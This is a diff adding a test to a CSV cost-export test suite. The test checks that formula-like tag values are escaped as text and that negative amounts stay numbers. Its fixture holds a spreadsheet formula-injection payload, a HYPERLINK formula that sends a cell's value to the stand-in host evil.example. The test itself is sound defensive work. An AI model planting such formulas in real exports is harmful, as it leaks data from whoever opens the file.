@@ -5,6 +5,7 @@ import { parse } from 'csv-parse/sync';
 import { createOrgWithKeys, startTestApp, type GqlResult, type TestApp } from '../support/app.js';
 import { fixturePath } from '../support/fixtures.js';
 import { readRawCsv, scaled, sumBy } from '../ingest/costs/support/raw-csv.js';
+import { insertCost } from '../support/spend.js';
 
 const FOCUS = fixturePath('focus-sample', 'focus_sample.csv');
 const focus = readRawCsv(FOCUS);
@@ -57,6 +58,13 @@ describe('GET /export/costs.csv: the costs query as CSV for notebooks', () => {
     assert.deepEqual(rows.map((r) => [r.currency, scaled(r.amount)]), [...sumBy(inFilter, (r) => r.BillingCurrency, (r) => r.BilledCost).entries()].sort());
     const none = await csv('tag.no-such-tag=x', a.viewer);
     assert.deepEqual(none, []);
+  });
+
+  test('a tag value a spreadsheet would run as a formula is written as text; a negative amount stays a number', async () => {
+    const c = await createOrgWithKeys(t.db, 'export-c');
+    await insertCost(t.db.db, c.org.id, { day: new Date('2025-01-10T00:00:00Z'), amount: '-1.5', tags: { owner: '=HYPERLINK("http://evil.example/?"&A1,"x")', team: '@SUM(1+1)' } });
+    const rows = await csv('groupBy=TAG:owner,TAG:team', c.viewer);
+    assert.deepEqual(rows, [{ 'tag:owner': `'=HYPERLINK("http://evil.example/?"&A1,"x")`, 'tag:team': "'@SUM(1+1)", currency: 'USD', amount: '-1.5', rows: '1' }]);
   });
 
   test('another organization gets only the header; no key is 401; a bad dimension or date is a 400 naming it', async () => {
